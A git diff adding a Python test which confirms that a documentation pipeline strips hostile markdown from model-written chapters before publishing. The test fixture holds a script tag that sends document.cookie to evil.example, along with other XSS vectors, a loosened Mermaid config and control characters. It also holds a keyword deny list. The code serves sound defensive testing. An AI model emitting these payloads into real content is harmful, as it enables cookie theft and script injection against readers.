@@ -7,6 +7,7 @@ import yaml
 
 from fondation_contracts.ingest import STEP_NAMES
 from fondation_runner.backends.base import StepRequest
+from fondation_runner.parser import parse_output
 from fondation_runner.pipeline import AnalysisFailed, Pipeline, PipelineSettings
 from tests.runner.helpers import SAMPLE_REPO, EventLog, ScriptedBackend
 
@@ -296,3 +297,32 @@ async def test_oversized_files_are_reported(tmp_path: Path) -> None:
     assert "over the 100 KB limit" in error.message
     assert not result.partial
     assert "`dump.sql`: 160 KB, over the 100 KB limit" in backend.calls("abstractions")[0].prompt
+
+
+HOSTILE_MARKDOWN = (
+    "\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n"
+    "<img src=x onerror=alert(1)> <iframe src=https://evil.example></iframe>\n"
+    "[docs](javascript:alert(1)) ![logo](data:image/svg+xml;base64,PHN2Zz4=)\n"
+    "NUL\x00 and \x1b[31mred\x1b[0m and \u202eevil\n\n"
+    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\n  A --> B\n"
+    '  click A "javascript:alert(1)"\n```\n'
+)
+
+
+async def test_a_hostile_model_answer_is_neutralised_before_publishing(tmp_path: Path) -> None:
+    def hostile_chapter(request: StepRequest) -> str:
+        return chapter(request) + HOSTILE_MARKDOWN
+
+    backend = ScriptedBackend(scripts(chapters=hostile_chapter))  # type: ignore[arg-type]
+
+    result = await pipeline(backend, tmp_path).run()
+    course = parse_output(result.output_dir)
+
+    published = [d for d in course.documents if d.kind.value in ("chapter", "tutorial")]
+    assert len(published) == 7
+    written = [p.read_text() for p in (result.output_dir / "chapters").iterdir()]
+    for text in [*(d.content for d in published), *written]:
+        for hostile in ("<script", "<img", "<iframe", "javascript:", "data:", "click A", "%%{"):
+            assert hostile not in text, hostile
+        assert not {"\x00", "\x1b", "\u202e"} & set(text)
+    assert "graph TD" in written[0] and "&lt;script>" in written[0]
